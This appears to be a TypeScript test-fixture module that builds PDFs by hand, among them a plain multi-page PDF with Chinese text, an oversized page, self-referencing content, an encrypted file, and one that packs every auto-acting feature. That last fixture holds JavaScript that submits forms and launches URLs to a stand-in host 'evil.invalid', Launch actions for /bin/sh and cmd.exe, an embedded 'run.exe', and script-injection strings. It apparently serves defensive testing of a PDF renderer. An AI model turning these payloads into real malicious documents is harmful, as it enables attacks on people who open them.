// PDFs made by hand: a plain one with Chinese text in a font that it doesn't carry, and ones that try everything that a PDF
// can try.

/** Objects, numbered from 1, as one file; `trailer` is what stands there beside size and root (object 1). */
function pdf(objects: readonly string[], trailer = ''): Buffer {
  let text = '%PDF-1.7\n'
  const offsets: number[] = []
  objects.forEach((object, index) => {
    offsets.push(text.length)
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
  })
  const start = text.length
  const lines = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`)
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines.join('')}`
  text += `trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

function stream(content: string, entries = ''): string {
  return `<</Length ${content.length}${entries}>>\nstream\n${content}\nendstream`
}

const fonts = [
  '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  '<</Type/Font/Subtype/Type0/BaseFont/STSong-Light/Encoding/UniGB-UCS2-H/DescendantFonts[5 0 R]>>',
  `<</Type/Font/Subtype/CIDFontType0/BaseFont/STSong-Light/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 4>>
/FontDescriptor<</Type/FontDescriptor/FontName/STSong-Light/Flags 6/Ascent 880/Descent -120/CapHeight 880/ItalicAngle 0/StemV 93/FontBBox[-25 -254 1000 880]>>/DW 1000>>`,
] as const

/** Text as codes of UniGB-UCS2-H. */
function ucs2(text: string): string {
  return [...text].map((char) => (char.codePointAt(0) ?? 0).toString(16).padStart(4, '0')).join('')
}

/** Sixteen by sixteen red pixels in JPEG 2000, which no browser decodes. */
const redJp2 = Buffer.from(
  [
    'AAAADGpQICANCocKAAAAFGZ0eXBqcDIgAAAAAGpwMiAAAAAtanAyaAAAABZpaGRyAAAAEAAAABAAAw8HAAAAAAAPY2',
    '9scgEAAAAAABAAAACranAyY/9P/1EALwAAAAAAEAAAABAAAAAAAAAAAAAAABAAAAAQAAAAAAAAAAAAAw8BAQ8BAQ8B',
    'Af9SAAwAAAABAQQEBAAB/1wAEECAiIiQiIiQiIiQiIiQ/2QAJQABQ3JlYXRlZCBieSBPcGVuSlBFRyB2ZXJzaW9uID',
    'IuNS4w/5AACgAAAAAAJwAB/5PP/DAIB7eA3/iQEAE/gICAgICAgICAgICA/9k=',
  ].join(''),
  'base64',
).toString('latin1')

/** Two red squares, one a JPEG 2000 picture, above `Page n` and Chinese words, on so many pages. */
export function plainPdf(pages: number): Buffer {
  const kids = Array.from({ length: pages }, (_none, index) => `${6 + index * 2} 0 R`).join(' ')
  const body = Array.from({ length: pages }, (_none, index) => [
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Resources<</Font<</F1 3 0 R/F2 4 0 R>>/XObject<</J ${6 + pages * 2} 0 R>>>>/Contents ${7 + index * 2} 0 R>>`,
    stream(
      `1 0 0 rg 20 300 80 80 re f q 80 0 0 80 180 300 cm /J Do Q 0 g BT /F1 24 Tf 20 250 Td (Page ${index + 1}) Tj ET BT /F2 24 Tf 20 200 Td <${ucs2('预付卡余额未退')}> Tj ET`,
    ),
  ]).flat()
  return pdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Kids[${kids}]/Count ${pages}>>`,
    ...fonts,
    ...body,
    stream(
      redJp2,
      '/Type/XObject/Subtype/Image/Width 16/Height 16/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/JPXDecode',
    ),
  ])
}

const outside = 'https://evil.invalid/seen'
const script = `app.alert("ran"); this.submitForm("${outside}"); app.launchURL("${outside}", true); globalThis.ranCode = 3`

/** Everything that acts by itself, or when it is clicked: the whole page is one link, one button, one launcher. */
export function actingPdf(): Buffer {
  const js = `<</S/JavaScript/JS(${script.replaceAll(/[()\\]/g, '\\$&')})/Next<</S/URI/URI(${outside})>>>>`
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f" layout="tb"><event activity="initialize"><script contentType="application/x-javascript">${script.replaceAll('"', '&quot;')}</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${outside}" onerror="ranCode=4"/></body></exData></value></draw></subform></template></xdp:xdp>`
  const everywhere = '/Rect[0 0 300 400]/Type/Annot'
  return pdf([
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${js}/AA<</WC ${js}/WS ${js}>>/AcroForm<</Fields[8 0 R]/XFA 10 0 R/NeedAppearances true/CO[8 0 R]>>/Names<</JavaScript<</Names[(a) ${js}]>>/EmbeddedFiles<</Names[(run.exe) <</Type/Filespec/F(run.exe)/EF<</F 9 0 R>>>>]>>>>>>`,
    '<</Type/Pages/Kids[6 0 R]/Count 1>>',
    ...fonts,
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/AA<</O ${js}/C ${js}>>/Resources<</Font<</F1 3 0 R>>/XObject<</X 11 0 R>>>>/Contents 7 0 R/Annots[8 0 R <<${everywhere}/Subtype/Link/A<</S/URI/URI(${outside})>>>> <<${everywhere}/Subtype/Link/A<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>>> <<${everywhere}/Subtype/Link/A<</S/GoToR/F(${outside})/D[0/Fit]>>>> <<${everywhere}/Subtype/Screen/A<</S/Rendition/JS(${'app.alert\\(2\\)'})/OP 0>>>> <<${everywhere}/Subtype/FileAttachment/FS<</Type/Filespec/F(run.exe)/EF<</F 9 0 R>>>>>>]>>`,
    stream(
      '1 0 0 rg 20 300 80 80 re f /X Do 0 g BT /F1 24 Tf 20 250 Td (<img src=x onerror=ranCode=5>) Tj ET',
    ),
    `<<${everywhere}/Subtype/Widget/FT/Btn/Ff 65536/T(<script>ranCode=6</script>)/A <</S/SubmitForm/F<</FS/URL/F(${outside})>>>>/AA<</E ${js}/U ${js}/Fo ${js}/K ${js}/C ${js}>>>>`,
    stream('MZ\\x90', '/Type/EmbeddedFile'),
    stream(xfa),
    `<</Type/XObject/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceRGB/BitsPerComponent 8/F<</FS/URL/F(${outside})>>/Length 0>>\nstream\n\nendstream`,
  ])
}

/** One page as large as nothing is. */
export function hugePdf(): Buffer {
  return pdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R 5 0 R]/Count 2>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999999 99999999]/UserUnit 100000/Resources<</XObject<</X 6 0 R>>>>/Contents 4 0 R>>',
    stream('1 0 0 rg 0 0 99999999 99999999 re f /X Do'),
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 1 99999999]/Contents 4 0 R>>',
    '<</Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 1/Length 0>>\nstream\n\nendstream',
  ])
}

/** Goes in circles: a page that draws itself, a pattern and a page tree likewise. */
export function circlingPdf(): Buffer {
  return pdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Resources<</XObject<</X 5 0 R>>/Pattern<</P 6 0 R>>>>/Contents 4 0 R>>',
    stream('1 0 0 rg 20 300 80 80 re f /X Do /Pattern cs /P scn 0 0 300 200 re f'),
    stream('/X Do /X Do', '/Type/XObject/Subtype/Form/BBox[0 0 300 400]/Resources<</XObject<</X 5 0 R>>>>'),
    stream(
      '/Pattern cs /P scn 0 0 300 400 re f',
      '/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 10 10]/XStep .001/YStep .001/Resources<</Pattern<</P 6 0 R>>>>',
    ),
  ])
}

/** Asks for a passphrase. */
export function encryptedPdf(): Buffer {
  const key = '41'.repeat(32)
  return pdf(
    [
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]>>',
      `<</Filter/Standard/V 1/R 2/O<${key}>/U<${key}>/P -4>>`,
    ],
    '/Encrypt 4 0 R/ID[<41><41>]',
  )
}
